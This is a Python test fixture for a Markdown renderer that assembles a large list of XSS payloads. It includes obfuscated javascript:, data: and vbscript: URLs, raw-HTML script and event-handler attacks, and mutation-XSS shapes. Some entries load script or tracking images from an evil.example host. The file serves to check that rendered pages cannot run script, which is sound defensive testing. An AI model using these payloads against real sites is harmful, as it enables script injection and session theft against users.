"""Hostile page bodies: every one must render to HTML that cannot run script.

Written for this project from well-known families of trick: each dangerous URL below
is tried in each Markdown link form, a few in each block context (tables, task lists,
footnotes...), then raw-HTML attacks (which raw-HTML-off Markdown must show as text),
every event attribute, mutation-XSS shapes and Markdown-specific tricks are added.
"""

from __future__ import annotations

JS = "alert(1)"

DANGEROUS_URLS = [
    # Plain, and case tricks.
    f"javascript:{JS}",
    f"JaVaScRiPt:{JS}",
    f"JAVASCRIPT:{JS}",
    # Leading and embedded whitespace, which browsers strip from URLs.
    f" javascript:{JS}",
    f"\tjavascript:{JS}",
    f"\njavascript:{JS}",
    f"  \t javascript:{JS}",
    f"java\tscript:{JS}",
    f"java\nscript:{JS}",
    f"java\rscript:{JS}",
    f"javascript\t:{JS}",
    # Invisible Unicode: zero-width space/non-joiner/joiner, bidi override, BOM,
    # soft hyphen, word joiner, no-break space.
    f"java\u200bscript:{JS}",
    f"java\u200cscript:{JS}",
    f"java\u200dscript:{JS}",
    f"\u202ejavascript:{JS}",
    f"\ufeffjavascript:{JS}",
    f"java\u00adscript:{JS}",
    f"java\u2060script:{JS}",
    f"\u00a0javascript:{JS}",
    f"\x01javascript:{JS}",
    f"java\x00script:{JS}",
    # Entity-encoded schemes, with and without semicolons and padding zeros.
    f"&#106;avascript:{JS}",
    f"&#x6A;avascript:{JS}",
    f"&#0000106;avascript:{JS}",
    f"&#106avascript:{JS}",
    f"javascript&colon;{JS}",
    f"javascript&#58;{JS}",
    f"javascript&#x3a;{JS}",
    f"jav&#x09;ascript:{JS}",
    f"jav&Tab;ascript:{JS}",
    f"jav&NewLine;ascript:{JS}",
    # Percent-encoding (harmless as a relative path, but it must not become a scheme).
    f"%6Aavascript:{JS}",
    f"javascript%3A{JS}",
    "javascript://%0aalert(1)",
    "javascript://example.org/%0Aalert(1)",
    # Other executable schemes.
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "DATA:text/html,alert(1)",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    f"livescript:{JS}",
    "file:///etc/passwd",
]

# Every way Markdown makes a URL into a link or an image.
MARKDOWN_FORMS = [
    "[click]({})",
    "[click](<{}>)",
    "![picture]({})",
    "![picture](<{}>)",
    '[click]({} "title")',
    "[click][ref]\n\n[ref]: {}",
    "![picture][img]\n\n[img]: {}",
    "[ref]\n\n[ref]: <{}> 'title'",
    "<{}>",
    "[[{}]]",
]

# Block contexts: a handful of URLs in each is enough, the forms above cover the rest.
CONTEXT_URLS = [f"javascript:{JS}", f"&#x6A;avascript:{JS}", "data:text/html,x", "vbscript:x"]
CONTEXTS = [
    "| a | b |\n|---|---|\n| [x]({}) | ![y]({}) |",
    "- [ ] [x]({})\n- [x] ![y]({})",
    "Note[^1]\n\n[^1]: [x]({})",
    "Inline ^[see [x]({})]",
    "# [heading]({})",
    "> [quoted]({})",
    "**[bold]({})**",
    "1. [first]({})\n   - [nested]({})",
    "~~[struck]({})~~",
]

RAW_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/xss src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror\t=alert(1)>",
    "<img src=x onerror&#61;alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img src="javascript:alert(1)">',
    "<img dynsrc=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x#y></use></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset onload=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<link rel=import href=https://evil.example/x.html>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,x'>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<base href=javascript:alert(1)//>",
    "<base href=https://evil.example/>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script>alert(1)//",
    "<script\n>alert(1)</script\n>",
    "<!--<script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=javascript:alert(1)>",
    "<input type=checkbox onclick=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<x onclick=alert(1)>click</x>",
    "<template><script>alert(1)</script></template>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<table><tr><td onclick=alert(1)>cell</td></tr></table>",
    "<p style=background:url(javascript:alert(1))>x</p>",
    "<span style='behavior:url(x.htc)'>x</span>",
    '<div style="width:expression(alert(1))">x</div>',
]

# Mutation XSS: markup that means one thing to a sanitiser and another once re-parsed.
MUTATION = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mi><table><mi><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<title><img title="</title><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    '<xmp><img title="</xmp><img src=x onerror=alert(1)>">',
    '<iframe><img title="</iframe><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>">',
    "<plaintext><script>alert(1)</script>",
    '<a title="a&quot; onmouseover=&quot;alert(1)">x</a>',
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
]

EVENTS = [
    "onload", "onerror", "onclick", "ondblclick", "onmouseover", "onmouseenter",
    "onmousedown", "onpointerenter", "onpointerdown", "onfocus", "onfocusin", "onblur",
    "oninput", "onchange", "onkeydown", "onkeyup", "onwheel", "onscroll", "onresize",
    "oncopy", "onpaste", "ondrag", "ondrop", "oncontextmenu", "onauxclick", "ontoggle",
    "onanimationstart", "ontransitionend", "onbegin", "onbeforeprint", "onhashchange",
    "onpageshow", "onloadstart", "oncanplay", "onplay", "onsubmit",
]  # fmt: skip
EVENT_FORMS = ["<div {}=alert(1) tabindex=1>x</div>", "<p {}='alert(1)'>x</p>"]

MARKDOWN_TRICKS = [
    # Quotes trying to break out of the title and alt attributes.
    "[x](javascript:alert(1) 'a\" onmouseover=\"alert(1)')",
    '[x](https://example.org "a" onmouseover="alert(1)")',
    "[x](https://example.org 'a&quot; onmouseover=&quot;alert(1)')",
    '[x](https://example.org (a" onclick="alert(1)))',
    '![x" onerror="alert(1)](/media/1)',
    '![x](/media/1 "a" onerror="alert(1)")',
    '![x](/media/1 "&#34; onerror=&#34;alert(1)")',
    '[x](https://example.org/" onclick="alert(1))',
    '[x](<https://example.org/" onclick="alert(1)>)',
    "[ref]\n\n[ref]: https://example.org '\" onclick=\"alert(1)'",
    # Wiki links carrying markup or schemes.
    "[[Page|<img src=x onerror=alert(1)>]]",
    "[[<script>alert(1)</script>]]",
    "[[javascript:alert(1)|click]]",
    "[[Page|javascript:alert(1)]]",
    '[[Page" onclick="alert(1)]]',
    "[[Page|x\" onmouseover='alert(1)]]",
    "[[//evil.example]]",
    "[[../../logout]]",
    "[[x]](javascript:alert(1))",
    "[[[x]](javascript:alert(1))]]",
    "[see [[Page]]](javascript:alert(1))",
    # Raw HTML inside every block that keeps inline content.
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "| <b onclick=alert(1)> | b |\n|---|---|\n| 1 | 2 |",
    "- [ ] <img src=x onerror=alert(1)>\n- [x] <input onfocus=alert(1) autofocus>",
    "- [x] <script>alert(1)</script>",
    "Note[^1]\n\n[^1]: <script>alert(1)</script>",
    "Note[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: x",
    "Inline ^[<svg onload=alert(1)>]",
    "```html\n<script>alert(1)</script>\n```",
    "```<script>alert(1)</script>\ncode\n```",
    '```js" onmouseover="alert(1)\ncode\n```',
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "`` </code><script>alert(1)</script> ``",
    "> <img src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "Title\n=====<script>alert(1)</script>",
    "**<img src=x onerror=alert(1)>**",
    "~~<script>alert(1)</script>~~",
    # Protocol-relative and backslash image and link addresses.
    "[x](//evil.example)",
    "![x](//evil.example/track.png)",
    "![x](https://evil.example/track.png)",
    "![x](/\\evil.example/track.png)",
    "![x](\\\\evil.example/track.png)",
    "![x](</\t/evil.example/track.png>)",
    "![x](/&#9;/evil.example/track.png)",
    # Escapes and entities that should stay text.
    "[a](javascript:alert(1))[b](javascript:alert(2))",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "javascript:alert(1)",
    "www.evil.example/javascript:alert(1)",
    "<mailto:javascript:alert(1)>",
    "<javascript:alert(1)@example.org>",
    '<https://example.org/" onclick="alert(1)>',
]


def _distinct(items: list[str]) -> list[str]:
    return list(dict.fromkeys(items))


PAYLOADS: list[str] = _distinct(
    [form.format(url) for url in DANGEROUS_URLS for form in MARKDOWN_FORMS]
    + [context.replace("{}", url) for url in CONTEXT_URLS for context in CONTEXTS]
    + RAW_HTML
    + MUTATION
    + [form.format(event) for event in EVENTS for form in EVENT_FORMS]
    + MARKDOWN_TRICKS
)
